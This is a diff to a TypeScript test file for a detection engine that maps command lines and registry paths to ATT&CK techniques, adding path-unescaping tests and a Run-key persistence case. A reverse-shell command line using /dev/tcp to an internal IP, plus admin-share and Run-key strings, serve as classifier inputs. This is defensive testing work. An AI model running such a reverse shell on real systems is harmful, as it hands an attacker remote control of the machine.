@@ -1,7 +1,14 @@
 import type { Corpus, TechniqueDoc } from '../../src/enrichment/corpus';
 import { EnrichmentEngine } from '../../src/enrichment/engine';
 import { loadPatterns } from '../../src/enrichment/patterns';
-import { features, stem, stripMarkup, terms, untemplated } from '../../src/enrichment/text';
+import {
+  features,
+  stem,
+  stripMarkup,
+  terms,
+  unescapedPaths,
+  untemplated,
+} from '../../src/enrichment/text';
 
 // Each signal of the engine on a small hand-made corpus (no database): what it finds, where,
 // and how it ranks against the others.
@@ -126,6 +133,13 @@ const engine = EnrichmentEngine.build(corpus, loadPatterns());
 const top = (item: Parameters<EnrichmentEngine['enrich']>[0]) =>
   engine.enrich(item, { topK: 3, minConfidence: 0 });
 
+/** The best answer of an engine built on the corpus and one more technique. */
+const topWith = (extra: TechniqueDoc, item: Parameters<EnrichmentEngine['enrich']>[0]) =>
+  EnrichmentEngine.build(
+    { ...corpus, techniques: [...corpus.techniques, extra] },
+    loadPatterns(),
+  ).enrich(item, { topK: 1, minConfidence: 0 })[0];
+
 describe('enrichment text', () => {
   it('removes ATT&CK markup and splits security text into stemmed terms', () => {
     expect(
@@ -150,6 +164,32 @@ describe('enrichment text', () => {
     expect(untemplated('net use \\\\#{remote_host}\\C$')).toBe('net use \\\\remote-host\\C$');
     // Only placeholders: braces of other kinds stay.
     expect(untemplated('${HOME} #{} #{a b}')).toBe('${HOME} #{} #{a b}');
+  });
+
+  it('reads paths escaped by a JSON or YAML export as written, and plain paths as they are', () => {
+    // The strings below as a rule's export carries them: every backslash doubled.
+    expect(unescapedPaths('TargetObject: HKLM\\\\Software\\\\Microsoft\\\\Windows')).toBe(
+      'TargetObject: HKLM\\Software\\Microsoft\\Windows',
+    );
+    expect(unescapedPaths('copy x.exe \\\\\\\\srv\\\\C$\\\\Temp')).toBe(
+      'copy x.exe \\\\srv\\C$\\Temp',
+    );
+    // Written plainly: a UNC prefix beside single separators, or a lone double.
+    expect(unescapedPaths('net use \\\\srv\\C$')).toBe('net use \\\\srv\\C$');
+    expect(unescapedPaths('\\\\srv')).toBe('\\\\srv');
+    const runKeys = technique(
+      'T1547.001',
+      'Registry Run Keys / Startup Folder',
+      'Adversaries may achieve persistence by adding a program to a startup folder or a Run key.',
+      { tactics: ['persistence'] },
+    );
+    const s = topWith(runKeys, {
+      text: 'TargetObject: HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run',
+    });
+    expect(s?.technique).toBe('T1547.001');
+    expect(s?.evidence).toContainEqual(
+      expect.objectContaining({ signal: 'pattern', detail: 'run-key' }),
+    );
   });
 });
 
@@ -244,15 +284,8 @@ describe('the enrichment engine', () => {
       'Adversaries may abuse Unix shell commands and scripts for execution.',
       { parent: 'T1059', platforms: ['Linux', 'macOS'] },
     );
-    const withUnix = EnrichmentEngine.build(
-      { ...corpus, techniques: [...corpus.techniques, unix] },
-      loadPatterns(),
-    );
     // A reverse shell names the family (medium), `bash -i` the Unix shell (medium).
-    const [s] = withUnix.enrich(
-      { command_line: 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1' },
-      { topK: 1, minConfidence: 0 },
-    );
+    const s = topWith(unix, { command_line: 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1' });
     expect(s?.technique).toBe('T1059.004');
     expect(s?.evidence).toEqual(
       expect.arrayContaining([
